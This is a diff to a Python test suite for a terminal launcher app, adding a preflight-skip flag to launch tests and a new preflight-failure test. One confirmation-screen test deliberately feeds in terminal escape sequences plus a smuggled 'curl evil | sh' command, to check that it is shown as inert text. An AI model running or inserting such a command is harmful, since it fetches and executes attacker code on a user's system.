@@ -261,7 +261,10 @@ async def test_launch_confirm_no_starts_nothing(tmp_path):
     async with app.run_test(size=(120, 40)) as pilot:
         cmd = f"{sys.executable} {ENGINE} --port {port}"
         await _start(
-            pilot, app, "serve", f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port}"
+            pilot,
+            app,
+            "serve",
+            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight --url http://127.0.0.1:{port}",
         )
         shown = " ".join(str(s.render()) for s in app.screen.query(".command"))
         assert cmd in shown and str(tmp_path / "leader.log") in shown
@@ -278,7 +281,8 @@ async def test_launch_serve_that_fails_its_gate(tmp_path):
         screen = app.screen
         cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 30 --crash-after 1"
         flags = (
-            f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port} --startup-budget 60"
+            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
+            f"--url http://127.0.0.1:{port} --startup-budget 60"
         )
         await _start(pilot, app, "serve", flags)
         await pilot.press("y")
@@ -291,6 +295,25 @@ async def test_launch_serve_that_fails_its_gate(tmp_path):
         assert not screen.running
 
 
+async def test_a_launch_on_nodes_diagnoses_them_first_and_a_failure_starts_nothing(tmp_path):
+    """The read-only preflight runs for the app's launches as for `epdoctor run`: this host
+    (no GPU, no EFA) has failing findings, so the engine never starts."""
+    port = free_port()
+    app = _launch_app()
+    async with app.run_test(size=(120, 40)) as pilot:
+        screen = app.screen
+        cmd = f"{sys.executable} {ENGINE} --port {port}"
+        await _start(
+            pilot, app, "serve", f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port}"
+        )
+        await pilot.press("y")
+        await wait_for(pilot, lambda: not screen.running, timeout=90, what="preflight")
+        state, summary, code = screen.gates["preflight"]
+        assert state == "fail" and code and "nothing started" in summary, screen.gates
+        assert not (tmp_path / "leader.log").exists()
+        assert "leader" not in screen.panes
+
+
 async def test_ctrl_c_during_a_launch_stops_everything_started(tmp_path):
     port = free_port()
     app = _launch_app()
@@ -298,7 +321,8 @@ async def test_ctrl_c_during_a_launch_stops_everything_started(tmp_path):
         screen = app.screen
         cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
         flags = (
-            f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port} --startup-budget 300"
+            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
+            f"--url http://127.0.0.1:{port} --startup-budget 300"
         )
         await _start(pilot, app, "serve", flags)
         await pilot.press("y")
@@ -335,7 +359,7 @@ async def test_kernel_test_on_gloo_streams_one_pane_per_rank_and_gates(tmp_path)
         screen = app.screen
         flags = (
             f"--backend gloo --gpus 2 --python {TORCH_PY} --no-expect-efa --run-dir {tmp_path} "
-            "--tokens 64 --timeout 240"
+            "--no-preflight --tokens 64 --timeout 240"
         )
         await _start(pilot, app, "kernel-test", flags)
         await pilot.press("y")
@@ -416,7 +440,10 @@ async def test_sixteen_panes_fill_rows_as_tall_as_a_pane_and_strip_escapes():
         scroll = screen.query_one("#pane-scroll")
         assert all(scroll.region.contains_region(p.region) for p in screen.panes.values())
         # a coloured log line shows its text, styled by its signature, without its escapes
-        assert screen.panes["rank0"].lines[-1] == ("[default0]:vm:1:1 NCCL WARN boom", "bold yellow")
+        assert screen.panes["rank0"].lines[-1] == (
+            "[default0]:vm:1:1 NCCL WARN boom",
+            "bold yellow",
+        )
 
 
 def test_a_row_drawn_in_one_strip_matches_the_cropped_and_padded_line():
@@ -614,7 +641,8 @@ async def test_quitting_during_a_launch_stops_what_it_started(tmp_path):
     async with app.run_test(size=(120, 40)) as pilot:
         cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
         flags = (
-            f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port} --startup-budget 300"
+            f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight "
+            f"--url http://127.0.0.1:{port} --startup-budget 300"
         )
         await _start(pilot, app, "serve", flags)
         await pilot.press("y")
@@ -635,7 +663,7 @@ async def test_after_yes_the_advertised_keys_act_on_the_panes(tmp_path):
     async with app.run_test(size=(120, 40)) as pilot:
         screen = app.screen
         cmd = f"{sys.executable} {ENGINE} --port {port} --start-delay 120"
-        flags = f"--cmd '{cmd}' --run-dir {tmp_path} --url http://127.0.0.1:{port}"
+        flags = f"--cmd '{cmd}' --run-dir {tmp_path} --no-preflight --url http://127.0.0.1:{port}"
         await _start(pilot, app, "serve", flags)
         await pilot.press("y")
         await wait_for(pilot, lambda: screen.running, what="running")
@@ -672,7 +700,9 @@ async def test_the_confirmation_shows_plan_values_as_text():
 
     app = Host()
     async with app.run_test(size=(120, 30)) as pilot:
-        box = ConfirmScreen("bring up [/] on \x1b]0;x\x07node", ["true\x1b[2K\x1b[1A; curl evil | sh [/]"])
+        box = ConfirmScreen(
+            "bring up [/] on \x1b]0;x\x07node", ["true\x1b[2K\x1b[1A; curl evil | sh [/]"]
+        )
         await app.push_screen(box)
         await pilot.pause(0.1)
         shown = " ".join(str(s.render()) for s in app.screen.query(".command"))
